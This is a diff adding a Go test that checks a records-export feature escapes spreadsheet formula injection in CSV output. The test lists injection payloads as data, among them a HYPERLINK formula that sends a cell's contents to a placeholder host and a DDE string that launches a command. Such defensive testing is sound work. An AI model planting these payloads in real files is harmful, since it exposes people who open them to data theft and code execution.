@@ -192,6 +192,44 @@ func TestEveryShapeHoldsWhoAgreed(t *testing.T) {
 	}
 }
 
+// TestCellsOfRecordsAreNoFormulas: what somebody was told as a name is opened in a spreadsheet one day.
+func TestCellsOfRecordsAreNoFormulas(t *testing.T) {
+	id, key := newKey(t)
+	for _, evil := range []string{`=HYPERLINK("http://x/?"&A1)`, "@SUM(1)", "+1", "-1+cmd|' /C calc'!A0", "\t=1", "|x"} {
+		var s shelf
+		s.put(t, "AAAA-1111", "b4", "legal", "d11_given", evil, "d2", "31")
+		a := ask(HTCDSCSV, "legal", key)
+		a.Case = "AAAA-1111"
+		m, err := s.office().Make(t.Context(), "noor", a)
+		if err != nil {
+			t.Fatal(err)
+		}
+		plain, err := id.Open(m.File, 1)
+		if err != nil {
+			t.Fatal(err)
+		}
+		files, marked := unpacked(t, plain), 0
+		for name, body := range files {
+			if !strings.HasSuffix(name, ".csv") {
+				continue
+			}
+			for _, row := range table(t, []byte(body)) {
+				for column, cell := range row {
+					if cell != "" && strings.ContainsAny(cell[:1], "=+-@|\t\r\n") {
+						t.Errorf("%s, %s: %q acts", name, column, cell)
+					}
+					if strings.HasPrefix(cell, "'") {
+						marked++
+					}
+				}
+			}
+		}
+		if marked != 1 || !strings.Contains(files["about.txt"], aboutFormulas) {
+			t.Errorf("%q: %d cells were made harmless, want the name; or about.txt does not say it", evil, marked)
+		}
+	}
+}
+
 // One person's record goes to a kind of helper that they chose, with the name they let us keep, and with no judgement.
 func TestOneRecordForAHelper(t *testing.T) {
 	id, key := newKey(t)
